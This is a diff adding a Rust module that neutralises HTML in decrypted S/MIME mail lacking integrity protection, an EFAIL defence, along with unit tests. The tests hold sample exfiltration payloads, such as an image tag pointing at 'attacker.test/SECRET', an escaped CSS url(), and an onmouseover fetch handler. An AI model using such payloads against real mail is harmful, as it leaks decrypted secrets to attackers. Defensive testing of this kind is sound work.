@@ -1,0 +1,318 @@
+//! The EFAIL defence. Content encrypted without integrity (CBC or 3DES
+//! EnvelopedData) can be malleated by anyone who captured it: knowing one
+//! plaintext block lets an attacker plant HTML such as `<img src="http://
+//! attacker/` in front of the secret. When such content reaches a mailbox
+//! decrypted and no valid signature inside the encryption vouches for it,
+//! every HTML part loses what would make a mail client fetch or send
+//! anything: remote `src`/`href`-like attributes, `<base>`, `<link>`,
+//! `<meta http-equiv>`, forms, frames, scripts, event handlers, `<style>`
+//! and CSS with `url()`. The HTML is rewritten by lol_html (an HTML5
+//! tokenizer, as browsers read it); HTML it cannot rewrite is delivered as
+//! plain text. AES-GCM (AuthEnvelopedData) and content signed inside the
+//! encryption pass as they are. Pure: bytes in, bytes out.
+
+use std::borrow::Cow;
+
+use lol_html::html_content::Element;
+use lol_html::{element, rewrite_str, RewriteStrSettings};
+use mail_parser::{MessageParser, PartType};
+
+use crate::smime::mime;
+use crate::smime::scan::Seen;
+
+/// Most nested messages followed.
+const MAX_DEPTH: usize = 4;
+
+/// What the defence did to a decrypted message.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Protected<'a> {
+    pub message: Cow<'a, [u8]>,
+    /// The content had no integrity protection (say `integrity=none`).
+    pub integrity_none: bool,
+    /// Some HTML was rewritten.
+    pub neutralised: bool,
+}
+
+/// Applies the defence to `message`, decrypted from a body the scan saw
+/// as `seen`. Content `covered` by a signature inside the encryption whose
+/// mathematics hold (whoever signed: nobody can sign malleated plaintext
+/// they cannot read) is left as it is.
+pub fn protect(message: &[u8], seen: Seen, covered: bool) -> Protected<'_> {
+    if !seen.without_integrity || covered {
+        return Protected {
+            message: Cow::Borrowed(message),
+            integrity_none: false,
+            neutralised: false,
+        };
+    }
+    let (out, neutralised) = neutralise(message, 0);
+    Protected {
+        message: out,
+        integrity_none: true,
+        neutralised,
+    }
+}
+
+/// `message` with every HTML part (at any depth) made inert; whether
+/// anything changed.
+fn neutralise(message: &[u8], depth: usize) -> (Cow<'_, [u8]>, bool) {
+    let Some(parsed) = MessageParser::default().parse(message) else {
+        return (Cow::Borrowed(message), false);
+    };
+    // (start, end, replacement), in message order.
+    let mut edits: Vec<(usize, usize, Vec<u8>)> = Vec::new();
+    for part in &parsed.parts {
+        let (start, body_start, end) = (
+            part.offset_header as usize,
+            part.offset_body as usize,
+            part.offset_end as usize,
+        );
+        if start > body_start || body_start > end || end > message.len() {
+            continue;
+        }
+        // Inside a part already replaced (a nested message): skip.
+        if edits.iter().any(|(s, e, _)| start >= *s && end <= *e) {
+            continue;
+        }
+        let headers = &message[start..body_start];
+        match &part.body {
+            PartType::Html(html) => {
+                let (ctype, body) = match inert_html(html) {
+                    Some(h) => ("text/html; charset=utf-8", h),
+                    None => ("text/plain; charset=utf-8", html.to_string()),
+                };
+                edits.push((start, end, reencoded(headers, ctype, body.as_bytes())));
+            }
+            PartType::Message(_) if depth < MAX_DEPTH => {
+                let inner = part.contents();
+                let (done, changed) = neutralise(inner, depth + 1);
+                if changed {
+                    edits.push((start, end, with_body(headers, &done)));
+                }
+            }
+            _ => {}
+        }
+    }
+    if edits.is_empty() {
+        return (Cow::Borrowed(message), false);
+    }
+    let mut out = Vec::with_capacity(message.len() + message.len() / 3);
+    let mut at = 0;
+    for (start, end, replacement) in edits {
+        if start < at {
+            continue;
+        }
+        out.extend_from_slice(&message[at..start]);
+        out.extend_from_slice(&replacement);
+        at = end;
+    }
+    out.extend_from_slice(&message[at..]);
+    (Cow::Owned(out), true)
+}
+
+/// The part's header fields without Content-Type and
+/// Content-Transfer-Encoding (and the blank line), as lines ending CRLF.
+fn kept_fields(headers: &[u8]) -> Vec<u8> {
+    let headers = mime::crlf(headers);
+    let (fields, _) = mime::split(&headers);
+    mime::without(fields, |n| {
+        n == "content-type" || n == "content-transfer-encoding"
+    })
+}
+
+/// A part with `ctype`, `body` in base64, and its other header fields.
+/// Ends without CRLF: the boundary line that follows brings its own.
+fn reencoded(headers: &[u8], ctype: &str, body: &[u8]) -> Vec<u8> {
+    let mut out = kept_fields(headers);
+    out.extend_from_slice(
+        format!("Content-Type: {ctype}\r\nContent-Transfer-Encoding: base64\r\n\r\n").as_bytes(),
+    );
+    let lines = mime::base64_lines(body);
+    out.extend_from_slice(lines.strip_suffix(b"\r\n").unwrap_or(&lines));
+    out
+}
+
+/// A `message/rfc822` part with a new (already rewritten) message.
+fn with_body(headers: &[u8], body: &[u8]) -> Vec<u8> {
+    let mut out = kept_fields(headers);
+    out.extend_from_slice(
+        b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: 8bit\r\n\r\n",
+    );
+    let body = mime::crlf(body);
+    out.extend_from_slice(body.strip_suffix(b"\r\n").unwrap_or(&body));
+    out
+}
+
+/// Attributes that make a client fetch, navigate or submit.
+const URL_ATTRIBUTES: &[&str] = &[
+    "src",
+    "href",
+    "srcset",
+    "imagesrcset",
+    "background",
+    "poster",
+    "action",
+    "formaction",
+    "data",
+    "codebase",
+    "cite",
+    "longdesc",
+    "lowsrc",
+    "dynsrc",
+    "manifest",
+    "ping",
+    "profile",
+    "usemap",
+    "archive",
+    "classid",
+];
+
+/// Elements removed with their content (they load or run things).
+const DROPPED: &str =
+    "base, link, meta, script, style, iframe, frame, frameset, object, embed, applet, noscript";
+
+/// `html` with nothing left that reaches out; `None` when it cannot be
+/// rewritten.
+pub fn inert_html(html: &str) -> Option<String> {
+    let settings = RewriteStrSettings::new()
+        .append_element_content_handler(element!(DROPPED, |el| {
+            el.remove();
+            Ok(())
+        }))
+        .append_element_content_handler(element!("form", |el| {
+            el.remove_and_keep_content();
+            Ok(())
+        }))
+        .append_element_content_handler(element!("*", |el| {
+            scrub(el);
+            Ok(())
+        }))
+        .with_strict(false);
+    rewrite_str(html, settings).ok()
+}
+
+/// Removes every attribute of `el` that could reach out.
+fn scrub(el: &mut Element<'_, '_>) {
+    let names: Vec<(String, String)> = el
+        .attributes()
+        .iter()
+        .map(|a| (a.name(), a.value()))
+        .collect();
+    for (name, value) in names {
+        let n = name.to_ascii_lowercase();
+        let url_like = URL_ATTRIBUTES.contains(&n.as_str()) || n.ends_with(":href");
+        let remove = n.starts_with("on")
+            || (n == "style" && css_reaches_out(&value))
+            || (url_like && !is_local(&value))
+            || n == "http-equiv";
+        if remove {
+            el.remove_attribute(&name);
+        }
+    }
+}
+
+/// CSS that might load something: `url(`, `image-set(`, `@import`, or
+/// any escape (which could spell them).
+fn css_reaches_out(css: &str) -> bool {
+    let lower = css.to_ascii_lowercase();
+    ["url", "image", "@import", "expression", "\\", "&"]
+        .iter()
+        .any(|w| lower.contains(w))
+}
+
+/// References that never leave the message: a fragment, a MIME part
+/// (`cid:`), or inline image data.
+fn is_local(value: &str) -> bool {
+    let v: String = value
+        .chars()
+        .filter(|c| !c.is_whitespace() && !c.is_control())
+        .collect::<String>()
+        .to_ascii_lowercase();
+    v.is_empty() || v.starts_with('#') || v.starts_with("cid:") || v.starts_with("data:image/")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cbc() -> Seen {
+        Seen {
+            encrypted: true,
+            without_integrity: true,
+        }
+    }
+
+    #[test]
+    fn remote_references_are_removed() {
+        let html = r#"<html><head><base href="http://a/"><meta http-equiv="refresh" content="0;url=http://a/x"><link rel=stylesheet href="http://a/s.css"><style>body{background:url(http://a/b)}</style></head>
+<body background="http://a/bg"><img src='http://attacker.test/SECRET'><img src="cid:part1"><a href="https://a/l">link</a>
+<div style="background-image: u\rl(http://a/c)">x</div><p style="color: red">red</p><form action="http://a/f"><input name=q><button formaction="http://a/g">go</button></form>
+<svg><image xlink:href="http://a/svg"/></svg><video poster="//a/p"></video><img srcset="http://a/1 1x"><p onmouseover="fetch('http://a')">SECRET</p></body></html>"#;
+        let out = inert_html(html).unwrap();
+        for bad in [
+            "http://",
+            "//a/",
+            "<base",
+            "<meta",
+            "<link",
+            "<style",
+            "url(",
+            "u\\rl",
+            "<form",
+            "action",
+            "onmouseover",
+            "srcset",
+        ] {
+            assert!(!out.contains(bad), "{bad} left in {out}");
+        }
+        for kept in [
+            "cid:part1",
+            "style=\"color: red\"",
+            "SECRET",
+            "<input name=q>",
+            "link</a>",
+        ] {
+            assert!(out.contains(kept), "{kept} lost in {out}");
+        }
+    }
+
+    #[test]
+    fn html_parts_are_rewritten_and_the_rest_kept() {
+        let m = b"From: a@b\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nplain http://x\r\n--B\r\nContent-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<p>hej =E6</p><img src=3D\"http://a/x\">\r\n--B--\r\n";
+        let p = protect(m, cbc(), false);
+        assert!(p.integrity_none && p.neutralised);
+        let text = String::from_utf8(p.message.to_vec()).unwrap();
+        assert!(text.contains("plain http://x"), "{text}");
+        assert!(text.contains("Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"), "{text}");
+        let parsed = MessageParser::default().parse(text.as_bytes()).unwrap();
+        let html = parsed.body_html(0).unwrap();
+        assert!(
+            html.contains("<p>hej æ</p>") && !html.contains("http"),
+            "{html}"
+        );
+        assert!(text.ends_with("\r\n--B--\r\n"));
+    }
+
+    #[test]
+    fn authenticated_content_passes_unchanged() {
+        let m = b"Content-Type: text/html\r\n\r\n<img src=\"http://a/x\">\r\n";
+        let gcm = Seen {
+            encrypted: true,
+            without_integrity: false,
+        };
+        let p = protect(m, gcm, false);
+        assert_eq!(&*p.message, &m[..]);
+        assert!(!p.integrity_none && !p.neutralised);
+        let p = protect(m, cbc(), false);
+        assert!(p.integrity_none && p.neutralised);
+        assert!(!String::from_utf8_lossy(&p.message).contains("http://"));
+        // Plain text from CBC: nothing to change, but said.
+        let t = b"Content-Type: text/plain\r\n\r\nhttp://a/x\r\n";
+        let p = protect(t, cbc(), false);
+        assert!(p.integrity_none && !p.neutralised);
+        assert_eq!(&*p.message, &t[..]);
+        // Signed inside the encryption: left as it is.
+        let p = protect(m, cbc(), true);
+        assert!(!p.integrity_none && !p.neutralised);
+    }
+}
